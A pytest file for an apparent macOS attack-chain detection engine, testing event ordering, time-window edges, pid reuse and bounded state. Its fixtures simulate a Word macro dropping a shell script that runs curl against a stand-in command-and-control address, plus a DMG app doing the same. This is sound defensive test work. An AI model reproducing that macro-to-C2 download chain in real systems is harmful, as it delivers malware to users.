"""Event time, not arrival order; both sides of every window edge; pid reuse; eviction and bounded state."""

from __future__ import annotations

from dataclasses import replace

import orjson
import pytest
from builders import (
    CHROME,
    CHROME_HELPER,
    CURL,
    HOUR,
    MINUTE,
    SAFARI,
    SH,
    TERMINAL,
    USER,
    WORD,
    ZSH,
    Binary,
    Image,
    Scenario,
    adhoc,
    at,
    link,
    long_running,
    only,
    run,
)
from hypothesis import given, settings
from hypothesis import strategies as st
from test_scenarios import C2_IP, amos_dmg_from_chrome, word_macro

from chainwatch.engine import Engine
from chainwatch.events import AnyEvent, AppAction, GatekeeperAction
from chainwatch.findings.model import Finding, Severity, Strength
from chainwatch.findings.ocsf import to_ocsf
from chainwatch.policy import Policy, load_policy
from chainwatch.state.memory import InMemoryStore

POLICY = load_policy()


def _noise(s: Scenario) -> None:
    """Benign activity on the same host, interleaved in time with the chains."""
    terminal = long_running(TERMINAL, 455, at(-3600))
    zsh = s.spawn(at(5), terminal, 3001, ZSH, ["-zsh"])
    git_curl = s.spawn(at(8), zsh, 3002, CURL, ["curl", "-sI", "https://api.github.com"])
    s.connect(at(8.5), git_curl, "140.82.112.6", 443, hostname="api.github.com")
    s.exit(at(9), git_curl)
    chrome = long_running(CHROME, 612, at(-3 * 3600))
    helper = s.spawn(at(11), chrome, 3010, CHROME_HELPER, ["Google Chrome Helper", "--type=utility"])
    s.connect(at(12), helper, "142.250.74.110", 443, hostname="www.google.com")
    safari = long_running(SAFARI, 530, at(-4 * 3600))
    s.write(at(14), safari, f"{USER}/Library/Caches/com.apple.Safari/Cache.db")
    s.app(at(16), AppAction.CLICK)
    s.gatekeeper(at(17), GatekeeperAction.SCAN, path="/Applications/Slack.app")
    # The Word macro's curl pid, reused by a developer's curl after the malicious one exited (pid-only record).
    reuser = s.spawn(at(40), zsh, 4242, CURL, ["curl", "https://github.com"])
    s.connect(at(41), reuser, "140.82.112.4", 443, hostname="github.com", by="pid")


def _stream() -> list[AnyEvent]:
    """Two full four-stage chains (route a and route b) and benign noise on one host."""
    word, _ = word_macro(egress_by="pid")
    noise = Scenario(origin="noise")
    _noise(noise)
    return [*word.events, *amos_dmg_from_chrome().events, *noise.events]


STREAM = _stream()


def _rendered(findings: list[Finding]) -> list[bytes]:
    return [orjson.dumps(to_ocsf(f, POLICY, processed_ns=0), option=orjson.OPT_SORT_KEYS) for f in findings]


def _in_time_order() -> list[Finding]:
    return run(sorted(STREAM, key=lambda e: e.time_ns), POLICY)


BASELINE = _in_time_order()


def test_order_baseline_has_both_chains() -> None:
    by_route = {f.route: f for f in BASELINE}
    assert sorted(by_route) == ["interpreter", "quarantined_app"] and len(BASELINE) == 2
    assert all(f.stage_numbers == (1, 2, 3, 4) and f.is_alert for f in BASELINE)
    # The reused pid's egress (github.com) is not the Word chain's; the Word curl's own pid-only egress is.
    assert [(e.dst_ip, e.attribution) for e in by_route["interpreter"].egress] == [
        ("104.245.240.172", "pid_lifetime")]


# step_ns 1: re-assemble on every event-time advance, so partial states (a curl whose shell has not arrived yet,
# an egress before its exec) are assembled too and must be corrected by the evidence that follows.
@settings(max_examples=300, deadline=None)
@given(order=st.permutations(STREAM), step_ns=st.sampled_from([1, 1_000_000_000, 60_000_000_000, 10**18]))
def test_order_any_permutation_same_findings(order: list[AnyEvent], step_ns: int) -> None:
    engine = Engine(POLICY, InMemoryStore(), clock=lambda: 0, step_ns=step_ns)
    findings = run(order, engine=engine)
    assert findings == BASELINE
    assert _rendered(findings) == _rendered(BASELINE)


def test_order_late_shell_exec_withdraws_partial_lineage_chain() -> None:
    # The shell's exec arrives last (a late batch): until then its children hang off Word's forked copy, and the
    # nearest interpreter in that partial lineage (the shell's own fork) looks like stage 3 of a chain of its own.
    s, images = word_macro()
    sh_key = images["sh"].entity_id
    late = [e for e in s.events if e.kind.value == "process_exec" and e.time_ns == at(21) + 1_000]
    assert len(late) == 1
    engine = Engine(POLICY, InMemoryStore(), clock=lambda: 0, step_ns=1)
    engine.ingest_all(e for e in s.events if all(e is not x for x in late))
    interim = engine.flush()
    assert interim and all(f.stage3_key != sh_key for f in interim)
    engine.ingest_all(late)
    engine.flush()
    final = only(engine.all_findings())
    assert final.stage3_key == sh_key and final.stage_numbers == (1, 2, 3, 4)
    assert engine.stats.findings_withdrawn == len(interim)
    assert final == only(run(s.events, POLICY))


# -- windows, both sides of every edge ----------------------------------------------------------------------------

WIDE = 10 * HOUR


def _only_limit(**limits: int) -> Policy:
    """The default policy with every window wide open except the ones given (so one edge is tested at a time)."""
    wide = {"window_ns": WIDE, "app_to_file_ns": WIDE, "file_to_exec_ns": WIDE, "exec_to_egress_ns": WIDE,
            "prompt_to_launch_ns": WIDE}
    return replace(POLICY, **(wide | limits))


def _word_chain(app_t: int, file_t: int, exec_t: int, egress_t: int) -> list[AnyEvent]:
    """Word (already running, launch logged at ``app_t``) writes the payload at ``file_t``; ``sh`` execs exactly
    at ``exec_t`` and its curl connects at ``egress_t``."""
    s = Scenario(origin="window")
    word = long_running(WORD, 701, app_t - 1)
    s.app(app_t, AppAction.LAUNCH, bundle_id="com.microsoft.Word", pid=701)
    payload = f"{USER}/Library/Containers/com.microsoft.Word/Data/~$helper.sh"
    s.write(file_t, word, payload)
    forked = s.fork(exec_t - 1_000, word, 905)
    sh = s.exec(exec_t, forked, SH, ["sh", payload], script_path=payload)
    curl = s.spawn(egress_t - 2_000, sh, 906, CURL, ["curl", f"http://{C2_IP}/x"])
    s.connect(egress_t, curl, C2_IP, 80)
    return s.events


@pytest.mark.parametrize(("extra", "stages"), [(0, (1, 2, 3, 4)), (1, (2, 3, 4))])
def test_window_overall_stage1_to_stage4_edge(extra: int, stages: tuple[int, ...]) -> None:
    # Default policy: window 1h; every link well inside its own limit.
    finding = only(run(_word_chain(at(0), at(20 * 60), at(40 * 60), at(3600) + extra), POLICY))
    assert finding.stage_numbers == stages
    assert finding.is_alert is (extra == 0)
    if extra:
        assert finding.severity is Severity.LOW and any("outside the 60 minute window" in n for n in finding.notes)


@pytest.mark.parametrize(("extra", "stages"), [(0, (1, 2, 3, 4)), (1, (1, 2, 3))])
def test_window_exec_to_egress_edge(extra: int, stages: tuple[int, ...]) -> None:
    policy = _only_limit(exec_to_egress_ns=POLICY.exec_to_egress_ns)
    exec_t = at(120)
    finding = only(run(_word_chain(at(0), at(60), exec_t, exec_t + 30 * MINUTE + extra), policy))
    assert finding.stage_numbers == stages


@pytest.mark.parametrize(("extra", "stages"), [(0, (1, 2, 3, 4)), (1, (1, 3, 4))])
def test_window_file_to_exec_edge(extra: int, stages: tuple[int, ...]) -> None:
    policy = _only_limit(file_to_exec_ns=POLICY.file_to_exec_ns)
    file_t = at(60)
    exec_t = file_t + HOUR + extra
    finding = only(run(_word_chain(at(0), file_t, exec_t, exec_t + MINUTE), policy))
    assert finding.stage_numbers == stages
    if extra:
        assert link(finding, 1, 3).strength is Strength.WEAK  # no landed file links them


@pytest.mark.parametrize(("extra", "stages"), [(0, (1, 2, 3, 4)), (1, (2, 3, 4))])
def test_window_app_to_file_edge(extra: int, stages: tuple[int, ...]) -> None:
    policy = _only_limit(app_to_file_ns=POLICY.app_to_file_ns)
    file_t = at(0) + HOUR + extra
    finding = only(run(_word_chain(at(0), file_t, file_t + MINUTE, file_t + 2 * MINUTE), policy))
    assert finding.stage_numbers == stages


def _volume_launch(prompt_t: int) -> list[AnyEvent]:
    """Route (b) without a quarantine agent match: only a path-less Gatekeeper prompt can make 2->3 strong."""
    s = Scenario(origin="prompt")
    chrome = long_running(CHROME, 612, at(-3600))
    s.app(at(0), AppAction.LAUNCH, bundle_id="com.google.Chrome", pid=612)
    s.write(at(10), chrome, f"{USER}/Downloads/Notes.dmg")
    s.gatekeeper(prompt_t, GatekeeperAction.PROMPT)
    app = s.launch(at(20 * 60), 2718, Binary("/Volumes/Notes/Notes.app/Contents/MacOS/Notes", adhoc("Notes-5555")))
    curl = s.spawn(at(20 * 60 + 5), app, 2719, CURL, ["curl", f"http://{C2_IP}/n"])
    s.connect(at(20 * 60 + 6), curl, C2_IP, 80)
    return s.events


@pytest.mark.parametrize(("extra", "strength"), [(0, Strength.STRONG), (1, Strength.WEAK)])
def test_window_prompt_to_launch_edge(extra: int, strength: Strength) -> None:
    policy = _only_limit(prompt_to_launch_ns=POLICY.prompt_to_launch_ns)
    finding = only(run(_volume_launch(at(20 * 60) - 10 * MINUTE - extra), policy))
    assert finding.route == "quarantined_app"
    assert link(finding, 2, 3).strength is strength
    assert bool(finding.gatekeeper) is (extra == 0)


@pytest.mark.parametrize(("extra", "crash_seen"), [(0, True), (1, False)])
def test_window_crash_after_child_edge(extra: int, crash_seen: bool) -> None:
    # A crash may be logged after the child it spawned, by at most prompt_to_launch.
    events = _word_chain(at(0), at(60), at(120), at(180))
    events = [e for e in events if e.source.value != "unifiedlog"]
    s = Scenario(origin="crash")
    s.app(at(120) + POLICY.prompt_to_launch_ns + extra, AppAction.CRASH, app_name="Microsoft Word", pid=701)
    finding = only(run([*events, *s.events], POLICY))
    assert (1 in finding.stage_numbers) is crash_seen


@pytest.mark.parametrize(("window", "stages"), [(None, (1, 2, 3, 4)), ("30m", (2, 3, 4))])
def test_window_load_policy_override(window: str | None, stages: tuple[int, ...]) -> None:
    policy = load_policy(window=window)
    assert policy.window_ns == (30 * MINUTE if window else HOUR)
    # Stage 1 -> 4 is 45 minutes; the file (16 min) is within 30 minutes of the egress (45 min).
    finding = only(run(_word_chain(at(0), at(16 * 60), at(17 * 60), at(45 * 60)), policy))
    assert finding.stage_numbers == stages


# -- pid reuse ------------------------------------------------------------------------------------------------------


def _reuse_without_exit(reuser_binary: Binary) -> tuple[list[AnyEvent], Image]:
    """The malicious curl (pid 4242) has no egress and its exit is never seen; a benign process gets pid 4242."""
    s, images = word_macro(egress_ip="")
    s.events = [e for e in s.events if not (e.kind.value == "process_exit" and e.process is not None
                                            and e.process.pid == 4242)]
    terminal = long_running(TERMINAL, 455, at(-3600))
    zsh = s.spawn(at(50), terminal, 4100, ZSH, ["-zsh"])
    reuser = s.spawn(at(60), zsh, 4242, reuser_binary, ["curl", "https://github.com"])
    s.connect(at(61), reuser, "140.82.112.4", 443, hostname="github.com", by="pid")
    return s.events, images["curl"]


def test_pid_reuse_late_exec_record_detaches_egress() -> None:
    # The benign curl's fork and exec arrive last (a late batch): until then its pid-only egress looks like the
    # malicious curl's (exit not seen). Once they arrive the chain must drop back to three stages.
    events, _ = _reuse_without_exit(CURL)
    late = [e for e in events if e.kind.value in ("process_fork", "process_exec") and e.time_ns >= at(60)]
    early = [e for e in events if all(e is not x for x in late)]
    assert len(late) == 2
    engine = Engine(POLICY, InMemoryStore(), clock=lambda: 0, step_ns=1)
    engine.ingest_all(sorted(early, key=lambda e: e.time_ns))
    interim = only(engine.flush())
    assert interim.stage_numbers == (1, 2, 3, 4)  # what the engine could know then: pid, no exit, no successor
    assert interim.egress[0].attribution == "pid_open_lifetime"
    engine.ingest_all(late)
    engine.flush()
    final = only(engine.all_findings())
    assert final.finding_id == interim.finding_id
    assert final.stage_numbers == (1, 2, 3) and final.egress == () and not final.is_alert


def test_pid_reuse_untracked_reuser_with_exit_seen_not_attached() -> None:
    s, _ = word_macro(egress_ip="")
    s.connect(at(90), Image(4242, 1, Binary("/usr/bin/git", None), at(89)), "140.82.112.4", 443, by="pid")
    finding = only(run(s.events, POLICY))
    assert finding.egress == () and finding.stage_numbers == (1, 2, 3)


# -- eviction and bounded state -------------------------------------------------------------------------------------


def test_eviction_after_window_state_shrinks_finding_kept() -> None:
    s, _ = word_macro()
    engine = Engine(POLICY, InMemoryStore(), clock=lambda: 0)
    engine.ingest_all(s.events)
    engine.flush()
    state = engine.state_for("mac-01")
    before = len(state)
    assert before > 5
    later = Scenario(origin="later")
    later.app(at(0) + 2 * POLICY.window_ns + 10 * MINUTE, AppAction.CLICK)
    engine.ingest_all(later.events)
    engine.flush()
    assert len(state) < before and len(state) <= 1
    assert state.horizon_ns > at(0)
    assert {(ref.split("|", 1)[0], stamp) for ref, stamp in state.seen} == {
        ("later.unifiedlog.jsonl:1", str(later.events[0].time_ns))}
    finding = only(engine.all_findings())  # aged-out evidence never withdraws or downgrades a finding
    assert finding.stage_numbers == (1, 2, 3, 4)


def test_eviction_keeps_evidence_inside_two_windows() -> None:
    s, _ = word_macro()
    engine = Engine(POLICY, InMemoryStore(), clock=lambda: 0)
    engine.ingest_all(s.events)
    before = len(engine.state_for("mac-01"))
    later = Scenario(origin="later")
    later.app(at(0) + 2 * POLICY.window_ns - 10 * MINUTE, AppAction.CLICK)
    engine.ingest_all(later.events)
    assert len(engine.state_for("mac-01")) == before + 1


def _benign_hours(hours: int) -> list[AnyEvent]:
    """A busy, benign host: every minute a developer runs curl from Terminal, Safari writes its cache, Chrome's
    helper connects; pids cycle like a real kernel's."""
    s = Scenario(origin=f"noise{hours}")
    terminal = long_running(TERMINAL, 455, at(-3600))
    safari = long_running(SAFARI, 530, at(-3600))
    chrome = long_running(CHROME, 612, at(-3600))
    pid = 20_000
    for tick in range(hours * 60):
        t = tick * 60.0
        pid = 20_000 + (pid - 20_000 + 3) % 30_000
        zsh = s.spawn(at(t), terminal, pid, ZSH, ["-zsh"])
        curl = s.spawn(at(t + 1), zsh, pid + 1, CURL, ["curl", "-s", "https://api.github.com"])
        s.connect(at(t + 2), curl, "140.82.112.6", 443, hostname="api.github.com")
        s.exit(at(t + 3), curl)
        s.exit(at(t + 4), zsh)
        s.write(at(t + 5), safari, f"{USER}/Library/Caches/com.apple.Safari/fsCachedData/{tick:08X}")
        helper = s.spawn(at(t + 6), chrome, pid + 2, CHROME_HELPER, ["Google Chrome Helper"])
        s.connect(at(t + 7), helper, "142.250.74.110", 443, hostname="www.google.com")
        s.exit(at(t + 8), helper)
    return s.events


def test_memory_state_bounded_on_long_benign_stream() -> None:
    sizes = {}
    for hours in (3, 12):
        engine = Engine(POLICY, InMemoryStore(), clock=lambda: 0)
        engine.ingest_all(_benign_hours(hours))
        state = engine.state_for("mac-01")
        sizes[hours] = (len(state), len(state.seen), len(state.processes.by_pid), len(state.processes.pid_exits))
        assert engine.all_findings() == []
    # After two windows the state holds two windows of evidence, however long the stream has run.
    low, high = sizes[3][0], sizes[12][0]
    assert high <= low * 1.05 + 10, sizes
    assert all(sizes[12][i] <= sizes[3][i] * 1.05 + 10 for i in range(4)), sizes
    assert 2 * 60 * 3 <= high < 12 * 60 * 3  # two windows of tracked evidence, far below keeping everything
